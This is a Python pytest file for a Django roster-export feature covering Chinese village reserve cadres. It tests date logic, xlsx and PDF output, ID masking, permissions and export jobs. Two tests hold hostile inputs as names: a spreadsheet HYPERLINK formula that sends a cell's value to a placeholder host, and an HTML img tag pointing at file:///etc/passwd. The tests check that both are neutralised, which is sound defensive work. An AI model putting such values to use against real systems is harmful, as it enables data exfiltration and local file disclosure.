"""附件1 名册: the rows on a date, the .xlsx and the PDF, the page and its downloads."""

import datetime
import io
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from org.models import AuditLog
from reports import pdfchunks, roster
from reports.models import ExportJob
from reports.roster import build_roster, roster_pdf, roster_rows, roster_xlsx
from reserves.models import MentorPairing, ReservePlacement
from tests.conftest import make_person, make_record

ARTEFACTS = Path(__file__).resolve().parents[2] / "artifacts" / "reports"
ON = datetime.date(2026, 6, 30)
needs_poppler = pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils 未安装（pdftotext）")


def pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "out.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout


def squeeze(text: str) -> str:
    """pdftotext spaces out what it lays out; compare without whitespace (the form feed between pages stays)."""
    return re.sub(r"[ \t\n\u3000]+", "", text)


def pdf_fonts(data: bytes, tmp_path) -> str:
    path = tmp_path / "fonts.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout


def save_png(data: bytes, name: str):
    """A page a person can look at (artifacts/reports/, not committed)."""
    ARTEFACTS.mkdir(parents=True, exist_ok=True)
    pdf = ARTEFACTS / f"{name}.pdf"
    pdf.write_bytes(data)
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", str(pdf), str(ARTEFACTS / name)], check=True)


@pytest.fixture
def pool(cast):
    """Township A on ON: 李兰 (A1, paired, party member), 王甘 (A2), 陈青 (A3, woman); a removed and a used person
    who are out by ON; a person moved from A2 to B1 after ON (still A2's on ON); B1's own 赵汉."""
    a1 = make_record(
        make_person(
            cast.village_a1, name="李兰", birth=datetime.date(1990, 1, 15), party_joined=datetime.date(2012, 7, 1)
        ),
        mentor=cast.mentor,
    )
    MentorPairing.objects.create(
        record=a1, mentor_name="周明", mentor_kind="village_head", post="村党委书记", start=datetime.date(2021, 1, 1)
    )
    a2 = make_record(make_person(cast.village_a2, name="王甘", birth=datetime.date(1991, 7, 1)))
    a3 = make_record(make_person(cast.community_a3, name="陈青", sex="F", birth=datetime.date(1995, 6, 30)))
    make_record(make_person(cast.village_a1, name="出库甲"), ended=datetime.date(2026, 3, 1), status="removed")
    make_record(make_person(cast.village_a2, name="使用乙"), ended=datetime.date(2026, 5, 1), status="used")
    moved = make_record(make_person(cast.village_a2, name="调走丙"))
    placement = moved.placements.get()
    placement.end = datetime.date(2026, 8, 1)
    placement.save()
    ReservePlacement.objects.create(record=moved, village=cast.village_b1, start=datetime.date(2026, 8, 1))
    moved.village = cast.village_b1
    moved.save()
    b1 = make_record(make_person(cast.village_b1, name="赵汉"))
    return {"a1": a1, "a2": a2, "a3": a3, "moved": moved, "b1": b1}


def test_rows_list_who_was_in_the_pool_where_they_were_placed_that_day(cast, pool):
    rows = roster_rows(cast.township_a, ON)
    assert [r["name"] for r in rows] == ["陈青", "李兰", "王甘", "调走丙"]  # by village code, then name
    assert [r["village"] for r in rows] == ["青竹社区", "兰沟村", "甘家沟村", "甘家沟村"]
    assert [r["no"] for r in rows] == [1, 2, 3, 4]
    li = rows[1]
    assert li["township"] == "青竹街道" and li["sex"] == "男" and li["birth"] == "1990.01"
    assert li["party_joined"] == "2012.07" and li["education"] == "大学专科" and li["source"] == "村民小组长"
    assert li["mentors"] == "副镇长；周明 村党委书记"  # the cast mentor is named 副镇长: printed once
    assert rows[0]["age"] == 31  # born 1995-06-30: 31 exactly on ON
    assert li["age"] == 36
    # After the move the person counts in B1, not A2.
    later = roster_rows(cast.township_a, datetime.date(2026, 9, 1))
    assert "调走丙" not in [r["name"] for r in later]
    assert "调走丙" in [r["name"] for r in roster_rows(cast.township_b, datetime.date(2026, 9, 1))]


def test_age_is_counted_at_the_roster_date(cast, pool):
    before = {r["name"]: r["age"] for r in roster_rows(cast.township_a, datetime.date(2026, 6, 29))}
    assert before["陈青"] == 30


def test_rows_take_two_queries_whatever_the_size(cast, pool, django_assert_num_queries):
    with django_assert_num_queries(2):
        assert len(roster_rows(cast.county, ON)) == 5
    for i in range(15):
        make_record(make_person(cast.village_a1, name=f"增{i}"), mentor=cast.mentor)
    with django_assert_num_queries(2):
        assert len(roster_rows(cast.county, ON)) == 20


def test_a_date_before_anything_was_recorded_gives_an_empty_roster_with_the_reason(cast, pool):
    result = build_roster(cast.county, datetime.date(2015, 1, 1))
    assert result.rows == []
    assert "早于青神县在系统中的第一条记录（2020年3月1日）" in result.explanation
    data = roster_xlsx(result, reveal=False)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (ws["A1"].value, ws["A2"].value) == ("附件1", "青神县村级后备干部名册")
    assert "无在库后备干部" in ws["A5"].value


def test_xlsx_has_the_template_title_headers_and_values(cast, pool):
    data = roster_xlsx(build_roster(cast.township_a, ON), reveal=False)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (ws["A1"].value, ws["A2"].value) == ("附件1", "青竹街道村级后备干部名册")
    assert {str(r) for r in ws.merged_cells.ranges} == {"A1:N1", "A2:N2", "A3:N3"}
    assert "2026年6月30日" in ws["A3"].value and "共4人" in ws["A3"].value
    assert "填报单位：中共青竹街道工作委员会" in ws["A3"].value
    assert [c.value for c in ws[4]] == [
        "序号",
        "乡镇",
        "村（社区）",
        "姓名",
        "性别",
        "出生年月",
        "入党时间",
        "年龄",
        "学历",
        "身份",
        "身份证号码",
        "联系电话",
        "结对干部姓名及职务",
        "备注",
    ]
    li = [c.value for c in ws[6]]
    assert li[:10] == [2, "青竹街道", "兰沟村", "李兰", "男", "1990.01", "2012.07", 36, "大学专科", "村民小组长"]
    assert li[10] == pool["a1"].person.id_number[:6] + "********" + pool["a1"].person.id_number[-4:]
    assert li[12] == "副镇长；周明 村党委书记"
    assert ws.print_title_rows == "$4:$4"
    assert ws.page_setup.orientation == "landscape"
    assert "青竹街道" in ws.oddFooter.left.text and ws.oddFooter.center.text == "第 &P 页 共 &N 页"


def test_xlsx_reveals_full_id_numbers_only_when_asked(cast, pool):
    ws = openpyxl.load_workbook(io.BytesIO(roster_xlsx(build_roster(cast.village_a1, ON), reveal=True))).active
    assert ws["K5"].value == pool["a1"].person.id_number


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1", "-2"])
def test_formula_like_names_are_stored_as_text(cast, name):
    make_record(make_person(cast.village_a1, name=name))
    ws = openpyxl.load_workbook(io.BytesIO(roster_xlsx(build_roster(cast.village_a1, ON), reveal=False))).active
    cell = ws["D5"]
    assert cell.value == name and cell.data_type == "s"


def test_control_characters_excel_rejects_are_dropped(cast):
    make_record(make_person(cast.village_a1, name="张\x0b三"))
    ws = openpyxl.load_workbook(io.BytesIO(roster_xlsx(build_roster(cast.village_a1, ON), reveal=False))).active
    assert ws["D5"].value == "张三"


@needs_poppler
def test_pdf_has_title_headers_values_and_embedded_cjk_fonts(cast, pool, tmp_path):
    data = roster_pdf(build_roster(cast.township_a, ON), reveal=False)
    save_png(data, "roster_township")
    text = squeeze(pdf_text(data, tmp_path))
    assert "青竹街道村级后备干部名册" in text and "附件1" in text
    for header in ["序号", "出生年月", "身份证号码", "结对干部姓名及职务"]:
        assert header in text
    assert "陈青女1995.0631大学专科村民小组长" in text  # one row, in column order
    assert all(v in text for v in ["兰沟村李兰男1990.012012.0736", "周明", "村党委"])
    assert pool["a1"].person.id_number not in text  # masked
    assert "第1页共1页" in text and "名册日期：2026年6月30日" in text
    fonts = pdf_fonts(data, tmp_path)
    assert "NotoSansCJK" in fonts.replace("-", "") or "Noto-Sans-CJK" in fonts
    assert all(line.split()[-5] == "yes" for line in fonts.splitlines()[2:])  # emb column


@needs_poppler
def test_a_long_roster_is_laid_out_in_parallel_chunks_with_page_numbers_running_across(
    cast, monkeypatch, tmp_path, settings
):
    monkeypatch.setattr(roster, "PDF_ROWS_PER_CHUNK", 10)
    monkeypatch.setattr(roster, "PDF_ROWS_MAX_CHUNK", 25)
    for i in range(60):
        make_record(make_person(cast.village_a1, name=f"测试{i:02d}"))
    data = roster_pdf(build_roster(cast.village_a1, ON), reveal=False, workers=2)
    text = squeeze(pdf_text(data, tmp_path))
    pages = text.split("\f")
    n = len([p for p in pages if p.strip()])
    assert n >= 3
    assert f"第1页共{n}页" in text and f"第{n}页共{n}页" in text
    assert all("序号" in p for p in pages if p.strip())  # the header on every page
    assert "测试00" in text and "测试59" in text


def test_a_failing_layout_worker_is_reported(monkeypatch):
    import os

    parent, real = os.getpid(), pdfchunks.render_in_process

    def broken_in_children(html):
        if os.getpid() != parent:
            raise RuntimeError("排版失败")
        return real(html)

    monkeypatch.setattr(pdfchunks, "render_in_process", broken_in_children)
    with pytest.raises(pdfchunks.PdfRenderError, match="排版失败"):
        pdfchunks.render_chunks(["<p>a</p>", "<p>b</p>", "<p>c</p>", "<p>d</p>"], workers=2)


@needs_poppler
def test_markup_in_values_is_printed_as_text_and_no_file_is_read(cast, tmp_path):
    make_record(make_person(cast.village_a1, name='<img src="file:///etc/passwd">'))
    text = squeeze(pdf_text(roster_pdf(build_roster(cast.village_a1, ON), reveal=False), tmp_path))
    assert '<imgsrc="file:/' in text and 'etc/passwd">' in text  # the name column wraps it
    assert "root:" not in text


# --- the page and its downloads -------------------------------------------------------------------------------


def test_page_previews_the_roster_masked(client, cast, pool):
    client.force_login(cast.township_a_admin)
    response = client.get(reverse("roster"), {"unit": cast.township_a.pk, "on": ON.isoformat()})
    body = response.content.decode()
    assert response.status_code == 200
    assert "青竹街道村级后备干部名册" in body and "共4人" in body and "李兰" in body
    assert pool["a1"].person.id_number not in body


@pytest.mark.parametrize(
    "params, message",
    [
        ({"on": "2026-13-01"}, "请输入有效日期"),
        ({"on": "明天"}, "请输入有效日期"),
        ({"on": "2999-01-01"}, "名册日期不能晚于今天"),
    ],
)
def test_bad_dates_are_refused_in_chinese(client, cast, pool, params, message):
    client.force_login(cast.county_admin)
    response = client.get(reverse("roster"), {"unit": cast.county.pk, **params})
    assert message in response.content.decode()


def test_a_unit_outside_the_scope_is_refused(client, cast, pool):
    client.force_login(cast.township_b_admin)
    response = client.get(reverse("roster"), {"unit": cast.township_a.pk, "on": ON.isoformat()})
    assert "不在您的管辖范围内" in response.content.decode()
    response = client.post(reverse("roster_export"), {"unit": cast.township_a.pk, "on": ON.isoformat(), "fmt": "xlsx"})
    assert response.status_code == 302 and not ExportJob.objects.exists()


def test_village_roster_downloads_at_once_and_is_audited(client, cast, pool):
    client.force_login(cast.village_secretary)
    response = client.post(reverse("roster_export"), {"unit": cast.village_a1.pk, "on": ON.isoformat(), "fmt": "xlsx"})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert ws["A2"].value == "兰沟村村级后备干部名册" and ws["D5"].value == "李兰"
    assert "*" in ws["K5"].value  # a village secretary may not see full ID numbers
    entry = AuditLog.objects.get(action="report.roster")
    assert entry.actor == cast.village_secretary and entry.changes["people"] == 1
    assert entry.changes["full_id"] is False


def test_township_roster_runs_in_the_background_and_waits_in_my_exports(
    client, cast, pool, django_capture_on_commit_callbacks
):
    client.force_login(cast.township_a_admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("roster_export"), {"unit": cast.township_a.pk, "on": ON.isoformat(), "fmt": "xlsx"}
        )
    assert response.status_code == 302 and response["Location"] == reverse("export_list")
    job = ExportJob.objects.get()
    assert job.state == ExportJob.DONE and job.people == 4 and job.progress == 100
    listing = client.get(reverse("export_list")).content.decode()
    assert job.title in listing and reverse("export_download", args=[job.pk]) in listing
    download = client.get(reverse("export_download", args=[job.pk]))
    ws = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert ws["K6"].value == pool["a1"].person.id_number  # township admins may see full numbers
    entry = AuditLog.objects.get(action="report.export")
    assert entry.actor == cast.township_a_admin and entry.changes["people"] == 4


def test_an_export_is_downloadable_only_by_its_owner_and_only_for_seven_days(
    client, cast, pool, django_capture_on_commit_callbacks
):
    from django.utils import timezone

    client.force_login(cast.township_a_admin)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("roster_export"), {"unit": cast.township_a.pk, "on": ON.isoformat(), "fmt": "pdf"})
    job = ExportJob.objects.get()
    url = reverse("export_download", args=[job.pk])
    client.force_login(cast.township_a_staff)
    assert client.get(url).status_code == 404
    client.force_login(cast.township_a_admin)
    assert client.get(url).status_code == 200
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now())
    assert client.get(url).status_code == 404
    from reports.exports import purge_expired

    path = Path(job.file.path)
    assert path.exists()
    assert purge_expired() == 1 and not path.exists() and not ExportJob.objects.exists()


def test_a_failed_export_is_shown_as_failed(cast, pool, monkeypatch, django_capture_on_commit_callbacks):
    from reports import exports

    def broken(job, progress):
        raise RuntimeError("磁盘已满")

    monkeypatch.setitem(exports.KINDS, "roster_xlsx", exports.Kind("名册", broken))
    with django_capture_on_commit_callbacks(execute=True):
        job = exports.export_request(
            user=cast.county_admin, kind="roster_xlsx", unit=cast.county, title="x.xlsx", params={"on": "2026-06-30"}
        )
    job.refresh_from_db()
    assert job.state == ExportJob.FAILED and "磁盘已满" in job.error
    assert exports.run(job.pk) == ExportJob.FAILED  # nothing to claim: not run twice


def test_export_list_polls_only_while_something_is_running(client, cast, pool):
    client.force_login(cast.county_admin)
    ExportJob.objects.create(user=cast.county_admin, kind="roster_xlsx", unit=cast.county, title="排队.xlsx")
    body = client.get(reverse("export_list")).content.decode()
    assert 'hx-trigger="every 2s"' in body and "排队中" in body
    ExportJob.objects.update(state=ExportJob.DONE)
    assert 'hx-trigger="every 2s"' not in client.get(reverse("export_list"), HTTP_HX_REQUEST="true").content.decode()


def test_pages_use_a_fixed_number_of_queries(client, cast, pool, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(cast.county_admin)

    def count(url, params=None):
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url, params or {}).status_code == 200
        return len(ctx.captured_queries)

    for _ in range(3):
        ExportJob.objects.create(user=cast.county_admin, kind="roster_xlsx", unit=cast.county, title="a.xlsx")
    small = (count(reverse("roster"), {"unit": cast.county.pk, "on": ON.isoformat()}), count(reverse("export_list")))
    for i in range(20):
        make_record(make_person(cast.village_a2, name=f"多{i}"), mentor=cast.mentor)
        ExportJob.objects.create(user=cast.county_admin, kind="roster_xlsx", unit=cast.county, title="b.xlsx")
    large = (count(reverse("roster"), {"unit": cast.county.pk, "on": ON.isoformat()}), count(reverse("export_list")))
    assert small == large
    assert large[0] <= 10 and large[1] <= 6


def test_all_record_sheets_of_a_township_come_as_one_pdf_through_my_exports(
    client, cast, pool, django_capture_on_commit_callbacks
):
    client.force_login(cast.township_a_admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("record_sheets_export"), {"unit": cast.township_a.pk, "year": "2026", "fmt": "pdf"}
        )
    assert response["Location"] == reverse("export_list")
    job = ExportJob.objects.get()
    assert job.state == ExportJob.DONE, job.error
    # Those in the pool at the end of the year (or today): the one moved to B1 in August is B1's now.
    assert job.people == 3 and job.file.read().startswith(b"%PDF")
    assert job.title == "青竹街道村级后备干部日常管理纪实表（2026年）.pdf"


@pytest.mark.parametrize("data", [{"year": "明年", "fmt": "pdf"}, {"year": "2026", "fmt": "doc"}, {"year": "1999"}])
def test_bad_record_sheet_requests_are_refused_and_queue_nothing(client, cast, pool, data):
    client.force_login(cast.township_a_admin)
    response = client.post(reverse("record_sheets_export"), {"unit": cast.township_a.pk, **data}, follow=True)
    assert "请选择单位、年度" in response.content.decode()
    assert not ExportJob.objects.exists()


def test_record_sheets_of_another_township_are_refused(client, cast, pool):
    client.force_login(cast.township_b_admin)
    response = client.post(
        reverse("record_sheets_export"), {"unit": cast.township_a.pk, "year": "2026", "fmt": "zip"}, follow=True
    )
    assert "请选择单位" in response.content.decode() and not ExportJob.objects.exists()


def test_the_page_previews_thirty_rows_and_counts_them_all(client, cast, pool):
    for i in range(35):
        make_record(make_person(cast.village_a1, name=f"多{i:02d}"), mentor=cast.mentor)
    client.force_login(cast.county_admin)
    response = client.get(reverse("roster"), {"unit": cast.county.pk, "on": ON.isoformat()})
    body = response.content.decode()
    assert "共40人" in body and "另有10人" in body
    assert len(response.context["preview"]) == 30
    assert response.context["preview"][0][0] == 1 and response.context["preview"][-1][0] == 30
